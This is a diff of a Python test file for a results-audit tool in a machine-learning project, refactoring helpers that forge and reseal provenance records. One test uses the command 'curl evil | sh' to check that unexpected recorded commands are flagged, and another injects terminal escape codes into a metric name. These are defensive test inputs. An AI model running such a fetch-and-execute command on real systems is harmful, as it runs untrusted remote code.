@@ -19,13 +19,13 @@ import pandas as pd
 import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
-from support.project import ROOT, run_here, run_script
+from support.project import ROOT, refusal, run_here, run_script
 
 from mixvae.files import read_json, sha256, write_json
 from mixvae.measuring.evaluation import metrics as metrics_of
 from mixvae.provenance import seal
-from mixvae.review.audit import audit, trained
-from mixvae.review.audit.findings import FAILURE, NOTE, WARNING
+from mixvae.review.audit import audit, plausible, trained
+from mixvae.review.audit.findings import FAILURE, NOTE, WARNING, Findings
 from mixvae.review.audit.pages import PAGES
 from mixvae.review.audit.reading import LARGEST_TABLE, Unreadable, parse_mapping, read_parquet
 from mixvae.review.audit.subject import read
@@ -63,8 +63,13 @@ def forge(record: Path, **changes: str) -> None:
     for kind, files in changes.items():
         names = {Path(name).name: name for name in facts[kind]}
         facts[kind] |= {names[Path(file).name]: sha256(file) for file in files}
-    facts["seal"] = seal(facts)
-    write_json(record, facts)
+    reseal(record, **facts)
+
+
+def reseal(record: Path, **changes: object) -> None:
+    """Write facts into a record and seal it again."""
+    facts = read_json(record) | changes
+    write_json(record, facts | {"seal": seal(facts)})
 
 
 def forge_all(results: Path, run: Path, rule: str, *files: str) -> None:
@@ -83,8 +88,21 @@ def forge_all(results: Path, run: Path, rule: str, *files: str) -> None:
                 facts["inputs"][name] = sha256(results.parent / name)
         if of_all == "tabulate":
             facts["outputs"]["results/small/manifest.json"] = sha256(study / "manifest.json")
-        facts["seal"] = seal(facts)
-        write_json(study / f"provenance/{of_all}.json", facts)
+        reseal(study / f"provenance/{of_all}.json", **facts)
+
+
+def forged(results: Path, run: Path, rule: str, *files: str) -> list:
+    """Hide a change in every record, and return the failures, none of which is about digests."""
+    forge_all(results, run, rule, *files)
+    found = failures(results)
+    assert not any(finding.check == "intact" for finding in found), found
+    return found
+
+
+def edit_json(path: Path, change) -> None:
+    content = read_json(path)
+    change(content)
+    path.write_text(json.dumps(content))
 
 
 def test_an_untouched_study_passes_and_says_so(study_copy):
@@ -181,10 +199,8 @@ def test_a_deleted_seed_is_noticed(results):
 
 
 def test_a_seed_left_out_of_the_study_is_noticed_by_its_config(results, expansion):
-    content = read_json(results / "small/study.json")
-    run = next(run for run in content["runs"] if "-s1-" in run)
-    del content["runs"][run]
-    (results / "small/study.json").write_text(json.dumps(content))
+    run = runs_of(results, "*-s1-*")[0].name
+    edit_json(results / "small/study.json", lambda content: content["runs"].pop(run))
     forge(results / "small/provenance/study.json", outputs=[results / "small/study.json"])
     assert_noticed(failures(results, expansion), "study", "small", "study.json", f"run {run} (seed 1) of the config is not in")
     assert_noticed(failures(results), "tabulate", "small", "metrics.csv", f"has values of {run}, which is no run")
@@ -242,7 +258,7 @@ def test_an_edited_record_is_noticed(results, record, how):
     path.write_text(text.replace(seconds, '"seconds": 0.5') if how == "value" else text.replace('": ', '":  ', 1))
     assert any(f.file == str(path) and "edited" in f.message for f in failures(results))
     if how == "value" and "small/provenance" not in record:  # the manifest does not go by the seal
-        write_json(path, (facts := read_json(path)) | {"seal": seal(facts)})
+        reseal(path)
         (finding,) = [f for f in failures(results) if f.file == str(path) and f.check == "intact" and f.rule == path.stem]
         assert "since the tables were made" in finding.message
 
@@ -333,20 +349,15 @@ def test_a_page_is_not_recorded_outside_of_the_study(results, tmp_path):
 
 def test_other_splits_than_the_catalogues_are_noticed_without_a_config(results):
     path = results / "small/study.json"
-    content = read_json(path)
-    content["datasets"]["digits"]["splits"]["test"] = 100
-    path.write_text(json.dumps(content))
+    edit_json(path, lambda content: content["datasets"]["digits"]["splits"].update(test=100))
     forge(results / "small/provenance/study.json", outputs=[path])
     text = "what it says of data set digits is not what the config or catalogue says"
     assert_noticed(failures(results), "study", "small", "study.json", text)
 
 
 def test_a_replaced_spec_is_noticed(results):
-    path = results / "small/study.json"
-    content = read_json(path)
-    run = next(run for run in content["runs"] if "-K2-" in run)
-    content["runs"][run]["training"]["learning_rate"] = 0.1
-    path.write_text(json.dumps(content))
+    path, run = results / "small/study.json", runs_of(results, "*-K2-*")[0].name
+    edit_json(path, lambda content: content["runs"][run]["training"].update(learning_rate=0.1))
     forge(results / "small/provenance/study.json", outputs=[path])
     found = failures(results)
     assert_noticed(found, "study", "small", "study.json", f"run {run} has the spec of ")
@@ -366,12 +377,6 @@ def test_other_data_than_published_is_noticed_even_when_all_records_are_forged(r
     assert_noticed(failures(results), "download", "digits", "digits.csv.gz", "not the published file: sha256 expected 09f66e6d")
 
 
-def change_likelihood(run: Path, change) -> None:
-    content = read_json(run / "likelihood.json")
-    change(content["metrics"])
-    (run / "likelihood.json").write_text(json.dumps(content))
-
-
 @pytest.mark.parametrize(
     ("change", "text"),
     [
@@ -389,10 +394,8 @@ def change_likelihood(run: Path, change) -> None:
 )
 def test_metrics_that_cannot_be_are_noticed_even_when_all_records_are_forged(results, change, text):
     run = runs_of(results, "*-K2-*")[0]
-    change_likelihood(run, change)
-    forge_all(results, run, "evaluate", "likelihood.json")
-    found = failures(results)
-    assert not any(f.check == "intact" for f in found), found
+    edit_json(run / "likelihood.json", lambda content: change(content["metrics"]))
+    found = forged(results, run, "evaluate", "likelihood.json")
     assert_noticed(found, "evaluate", run.name, "likelihood.json", text)
 
 
@@ -420,10 +423,7 @@ def points(run: Path, **changes) -> None:
 def test_values_of_test_points_that_cannot_be_are_noticed(results, changes, text):
     run = runs_of(results, "*-K2-*")[0]
     points(run, **changes)
-    forge_all(results, run, "evaluate", "pointwise.npz")
-    found = failures(results)
-    assert not any(f.check == "intact" for f in found)
-    assert_noticed(found, "evaluate", run.name, "pointwise.npz", text)
+    assert_noticed(forged(results, run, "evaluate", "pointwise.npz"), "evaluate", run.name, "pointwise.npz", text)
 
 
 def test_fewer_test_points_are_noticed_even_when_means_and_all_records_follow(results, expansion):
@@ -447,17 +447,6 @@ def test_fewer_test_points_are_noticed_even_when_means_and_all_records_follow(re
         assert_noticed(failures(results), "evaluate", run.name, "likelihood.json", "points: found 100, expected 300")
 
 
-def forge_json(results: Path, run: Path, rule: str, file: str, change) -> list:
-    """Change what a run's JSON holds, reseal everything, and return the failures."""
-    content = read_json(run / file)
-    change(content)
-    write_json(run / file, content)
-    forge_all(results, run, rule, file)
-    found = failures(results)
-    assert not any(finding.check == "intact" for finding in found), found
-    return found
-
-
 @pytest.mark.parametrize(
     ("file", "change", "text"),
     [
@@ -475,7 +464,8 @@ def forge_json(results: Path, run: Path, rule: str, file: str, change) -> list:
 def test_counts_that_contradict_the_spec_or_other_files_are_noticed(results, file, change, text):
     run = runs_of(results, "*-K2-*")[0]
     rule = {"likelihood.json": "evaluate", "latent_metrics.json": "latents", "training.json": "train"}[file]
-    assert_noticed(forge_json(results, run, rule, file, lambda content: content.update(change)), rule, run.name, file, text)
+    edit_json(run / file, lambda content: content.update(change))
+    assert_noticed(forged(results, run, rule, file), rule, run.name, file, text)
 
 
 @pytest.mark.parametrize(
@@ -494,10 +484,8 @@ def test_counts_that_contradict_the_spec_or_other_files_are_noticed(results, fil
 )
 def test_metrics_of_codes_out_of_their_range_are_noticed(results, metric, change, text):
     run = runs_of(results, "*-K2-*")[0]
-    found = forge_json(
-        results, run, "latents", "latent_metrics.json", lambda content: content["metrics"][metric].update(change)
-    )
-    assert_noticed(found, "latents", run.name, "latent_metrics.json", text)
+    edit_json(run / "latent_metrics.json", lambda content: content["metrics"][metric].update(change))
+    assert_noticed(forged(results, run, "latents", "latent_metrics.json"), "latents", run.name, "latent_metrics.json", text)
 
 
 def edit_history(change):
@@ -527,17 +515,13 @@ def edit_history(change):
 def test_a_history_that_no_training_has_is_noticed(results, change, text):
     run = runs_of(results, "*-K2-*")[0]
     edit_history(change)(run)
-    forge_all(results, run, "train", "history.csv")
-    found = failures(results)
-    assert not any(finding.check == "intact" for finding in found), found
-    assert_noticed(found, "train", run.name, "history.csv", text)
+    assert_noticed(forged(results, run, "train", "history.csv"), "train", run.name, "history.csv", text)
 
 
 def test_a_history_of_another_best_epoch_or_length_contradicts_training(results):
     run = runs_of(results, "*-K2-*")[0]
     edit_history(lambda t: t.assign(valid_bound=-1.0, seconds=t.seconds + 1))(run)
-    forge_all(results, run, "train", "history.csv")
-    found = failures(results)
+    found = forged(results, run, "train", "history.csv")
     assert_noticed(found, "train", run.name, "training.json", "best_epoch 2, but 0 by history.csv")  # the first of equal ones
     assert_noticed(found, "train", run.name, "provenance/train.json", "by history.csv")
 
@@ -593,10 +577,7 @@ def header(content: bytes) -> bytes:
 def test_weights_that_are_none_or_not_as_many_are_noticed(results, content, file, text):
     run = runs_of(results, "*-K2-*")[0]
     (run / "model.safetensors").write_bytes(content)
-    forge_all(results, run, "train", "model.safetensors")
-    found = failures(results)
-    assert not any(finding.check == "intact" for finding in found), found
-    assert_noticed(found, "train", run.name, file, text)
+    assert_noticed(forged(results, run, "train", "model.safetensors"), "train", run.name, file, text)
 
 
 @pytest.mark.parametrize(
@@ -611,22 +592,15 @@ def test_weights_that_are_none_or_not_as_many_are_noticed(results, content, file
     ],
 )
 def test_times_that_are_none_are_noticed(results, change, text):
-    path = runs_of(results)[0] / "provenance/evaluate.json"
-    facts = read_json(path) | change
-    write_json(path, facts | {"seal": seal(facts)})
+    reseal(runs_of(results)[0] / "provenance/evaluate.json", **change)
     found = [f for f in failures(results) if f.check == "times"]
     assert_noticed(found, "evaluate", runs_of(results)[0].name, "evaluate.json", text)
 
 
 def test_a_job_before_what_it_read_is_warned_of(results):
-    path = runs_of(results)[0] / "provenance/evaluate.json"
-    facts = read_json(path)
-    for start, warned in (
-        ("1999-01-01T00:00:00+00:00", ["train", runs_of(results)[0].name]),
-        ("2999-01-01T00:00:00+00:00", []),
-    ):
-        facts["start"] = start
-        write_json(path, facts | {"seal": seal(facts)})
+    run = runs_of(results)[0]
+    for year, warned in ((1999, ["train", run.name]), (2999, [])):
+        reseal(run / "provenance/evaluate.json", start=f"{year}-01-01T00:00:00+00:00")
         told = [f for f in audit(results / "small").of(WARNING) if (f.check, f.rule) == ("times", "evaluate")]
         assert [f.message.split("before ")[1].split(",")[0].split() for f in told] == [warned] * bool(warned)
     # the tables have read them
@@ -676,9 +650,7 @@ def test_links_out_of_the_results_are_not_followed(results, tmp_path):
     (results / "small/audit.json").unlink(missing_ok=True)
     shutil.move(results / "small", outside / "small")
     (results / "small").symlink_to(outside / "small")
-    result = run_here("audit", "results/small", cwd=tmp_path)
-    assert result.returncode == 1
-    assert result.stderr.startswith("error: results/small: a link that leads out of results")
+    assert refusal("audit", "results/small", cwd=tmp_path).startswith("results/small: a link that leads out of results")
     assert not (outside / "small/audit.json").exists()
 
 
@@ -733,7 +705,9 @@ def test_a_study_that_names_other_folders_is_refused(results):
 
 def test_what_strangers_write_cannot_steer_the_terminal_or_spoil_the_report(results):
     run = runs_of(results)[0]
-    change_likelihood(run, lambda m: m.update({"\x1b[2Jnone|<b>": m["nll"]}))
+    edit_json(
+        run / "likelihood.json", lambda content: content["metrics"].update({"\x1b[2Jnone|<b>": content["metrics"]["nll"]})
+    )
     result = run_here("audit", "results/small", cwd=results.parent)
     assert result.returncode == 1
     assert "Traceback" not in result.stderr
@@ -753,8 +727,7 @@ def test_the_command_on_record_is_one_of_its_rule(results):
     path = runs_of(results)[0] / "provenance/train.json"
     assert not any("command" in f.message for f in audit(results / "small").all)
     for command in (["sh", "-c", "curl evil | sh"], ["python", "scripts/evaluate.py"], ["python"], "python scripts/train.py"):
-        facts = read_json(path) | {"command": command}
-        write_json(path, facts | {"seal": seal(facts)})
+        reseal(path, command=command)
         (found,) = [f for f in audit(results / "small").of(WARNING) if f.file == str(path)]
         assert found.message.startswith("its command is not one of scripts/train.py: ")
 
@@ -809,10 +782,7 @@ def test_a_long_word_that_all_rows_repeat_is_held_once(results):
 def test_other_code_and_packages_are_warned_of_by_group(results):
     run = runs_of(results)[0]
     path = run / "provenance/train.json"
-    facts = read_json(path)
-    facts["packages"]["torch"] = "1.0"
-    facts |= {"code_sha256": "f" * 64}
-    write_json(path, facts | {"seal": seal(facts)})
+    reseal(path, packages=read_json(path)["packages"] | {"torch": "1.0"}, code_sha256="f" * 64)
     warnings = [f.message for f in audit(results / "small").of(WARNING) if f.rule == "study"]
     assert any(text.startswith("code: 1 of 19 jobs differ") and f"train {run.name}" in text for text in warnings)
     assert any(text.startswith("packages: 1 of 19 jobs differ") and "('torch', '1.0')" in text for text in warnings)
@@ -830,9 +800,6 @@ def test_lost_times_only_warn(results):
 def test_training_to_the_end_must_beat_the_control(results):
     subject, _ = read(results / "small", None)
     run, spec = next((run, spec) for run, spec in subject.study.runs.items() if spec.model == "vae")
-    from mixvae.review.audit import plausible
-    from mixvae.review.audit.findings import Findings
-
     values = {name: {"nll": {"value": 9.0}} for name in subject.study.runs}
     control = next(name for name, other in subject.study.runs.items() if other.model == "constant")
     found = Findings("small")
@@ -869,8 +836,7 @@ def test_runs_have_the_metrics_that_are_expected_of_them():
             assert all(units[name] == metric.unit for name in metric.names(spec) if name in units)
 
 
-def test_a_mistaken_name_is_one_line(small_study):
-    result = run_here("audit", "smal", cwd=small_study)
-    assert result.returncode == 1
-    assert result.stderr.startswith("error: config/smal.yaml: no study 'smal'")
-    assert len(result.stderr.splitlines()) == 1
+@pytest.mark.parametrize("script", ["audit", "export", "report"])
+def test_a_mistaken_name_is_one_line(small_study, script):
+    assert refusal(script, "smal", cwd=small_study).startswith("config/smal.yaml: no study 'smal'")
+    assert refusal(script, "results/smal", cwd=small_study)
